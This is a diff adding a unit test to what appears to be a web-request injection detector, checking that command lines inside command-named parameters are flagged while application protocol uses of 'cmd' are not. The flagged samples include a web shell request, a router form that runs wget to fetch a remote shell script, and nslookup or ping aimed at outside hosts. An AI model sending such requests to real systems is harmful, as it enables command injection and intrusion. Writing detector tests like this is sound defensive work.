@@ -401,6 +401,22 @@ TEST_F(ContextGradingTest, BrowserTrafficShapesAreNotInjections) {
   EXPECT_TRUE(get("/catalog?lineage=%2Fhome%2Fdeploy%2Fapp%2Fconfig"));
 }
 
+// A parameter named for a command (a web shell's cmd=, a router's diagnostics form, an admin
+// tool's command field) with a command line in it: the command runs. Command names of an
+// application's own protocol (PayPal's cmd=_xclick, a file manager connector's cmd=ls) and a
+// control plane's JSON "command" fields are not command lines to run.
+TEST_F(ContextGradingTest, CommandLineInACommandParameter) {
+  EXPECT_TRUE(get("/shell.php?cmd=id"));
+  EXPECT_TRUE(get("/cgi-bin/admin.cgi?Command=sysCommand&Cmd=nslookup+x7.oast.example"));
+  EXPECT_TRUE(form("/boafrm/formSysCmd", "submit-url=%2Fsyscmd.htm&sysCmd=wget+http%3A%2F%2F198.51.100.7%2Fa.sh"));
+  EXPECT_TRUE(get("/capture?captureFlag=true&captureCommand=ping%20198.51.100.7%20index.pcap"));
+  EXPECT_FALSE(get("/cgi-bin/webscr?cmd=_xclick&business=shop%40example.com&amount=10"));
+  EXPECT_FALSE(get("/elfinder/connector?cmd=ls&target=l1_Lw"));
+  EXPECT_FALSE(get("/elfinder/connector?cmd=mkdir&target=l1_Lw&name=reports"));
+  EXPECT_FALSE(get("/search?q=wget+tutorial&cmd=search"));
+  EXPECT_FALSE(json(R"({"service": {"startCommand": "npm run start", "installation_command": "docker pull ghcr.io/acme/app:1.2"}})"));
+}
+
 // The contexts above are judged from what the application chose (field names, document shape),
 // never from what a short payload can add to itself: each of these still counts.
 TEST_F(ContextGradingTest, ContextsAPayloadCanForgeStillCount) {
